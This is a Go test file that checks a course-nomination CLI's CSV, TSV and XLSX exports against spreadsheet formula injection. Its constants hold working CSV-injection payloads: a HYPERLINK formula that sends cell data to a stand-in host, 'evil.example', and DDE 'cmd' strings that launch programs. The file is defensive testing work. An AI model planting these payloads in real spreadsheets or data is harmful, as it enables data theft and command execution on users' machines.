package safety

import (
	"encoding/csv"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// Values a spreadsheet would run as formulas (SPEC §8).
const (
	evilName     = `=HYPERLINK("http://evil.example/?x="&A1,"Open")`
	evilPosition = "+1+cmd|' /C calc'!A0"
	evilRank     = "-2+3"
	evilMinistry = "@SUM(1+1)"
	evilTitle    = "=cmd|' /C notepad'!A0"
)

// MustInjectionData writes, through the CLI, a course, offering, person and
// nomination whose text fields are all formulas.
func MustInjectionData(tb testing.TB, e *Env) {
	tb.Helper()
	e.MustRun(tb, "course", "add", "X1-001", "--title", evilTitle, "--area", "counter-terrorism", "--provider", "-NCI", "--days", "5", "--fee", "1200")
	e.MustRun(tb, "offering", "add", "X1-001", "--start", "2012-03-05", "--seats", "4", "--location", "@Oberammergau")
	e.MustRun(tb, "person", "add", "--name", evilName, "--ministry", evilMinistry, "--ref", "MOD-7001", "--position", evilPosition, "--rank", evilRank, "--email", "=evil@example.org")
	e.MustRun(tb, "nominate", "MOD-7001", "X1-001@2012-03-05", "--note", "+note")
}

// formulaLike reports whether a spreadsheet would treat s as a formula: a
// leading =, +, -, @, tab or CR, unless s is a plain number.
func formulaLike(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return false
	}
	_, err := strconv.ParseFloat(s, 64)
	return err != nil
}

// AssertCSVSafe parses text as CSV (sep) and fails for any cell a
// spreadsheet would run; it returns the cells.
func AssertCSVSafe(tb testing.TB, what, text string, sep rune) [][]string {
	tb.Helper()
	r := csv.NewReader(strings.NewReader(text))
	r.Comma = sep
	r.FieldsPerRecord = -1
	r.LazyQuotes = true
	rows, err := r.ReadAll()
	if err != nil {
		tb.Fatalf("%s: %v\n%s", what, err, text)
	}
	for i, row := range rows {
		for j, cell := range row {
			if formulaLike(cell) {
				tb.Errorf("%s: row %d column %d is a live formula: %q", what, i+1, j+1, cell)
			}
		}
	}
	return rows
}

// AssertXLSXSafe fails for any formula or formula-like text in a workbook,
// and returns how many numeric cells it holds.
func AssertXLSXSafe(tb testing.TB, path string) (numbers int) {
	tb.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			tb.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
					tb.Errorf("%s!%s holds the formula %q", sheet, ref, formula)
				}
				if formulaLike(v) {
					tb.Errorf("%s!%s is a live formula: %q", sheet, ref, v)
				}
				// A number cell has no type attribute (or "n").
				typ, _ := f.GetCellType(sheet, ref)
				if _, err := strconv.ParseFloat(v, 64); err == nil && (typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset) {
					numbers++
				}
			}
		}
	}
	return numbers
}

func TestListsAndReportsNeutraliseFormulas(t *testing.T) {
	e := NewEnv(t)
	MustInjectionData(t, e)
	for _, c := range []struct {
		args []string
		sep  rune
	}{
		{[]string{"person", "list", "-o", "csv"}, ','},
		{[]string{"person", "list", "-o", "tsv"}, '\t'},
		{[]string{"nomination", "list", "-o", "csv"}, ','},
		{[]string{"course", "list", "-o", "csv"}, ','},
		{[]string{"offering", "list", "-o", "tsv"}, '\t'},
		{[]string{"report", "year", "2012", "-o", "csv"}, ','},
	} {
		r := e.MustRun(t, c.args...)
		rows := AssertCSVSafe(t, strings.Join(c.args, " "), r.Stdout, c.sep)
		// The text is kept, behind an apostrophe.
		if c.args[0] == "person" && !strings.Contains(r.Stdout, "'"+strings.ReplaceAll(evilName, `"`, `""`)) {
			t.Errorf("%v lost the name:\n%v", c.args, rows)
		}
	}
	out := filepath.Join(e.Dir, "report.xlsx")
	e.MustRun(t, "report", "year", "2012", "--out", out)
	if n := AssertXLSXSafe(t, out); n == 0 {
		t.Error("the report workbook has no numeric cells: numbers must stay numbers")
	}
}
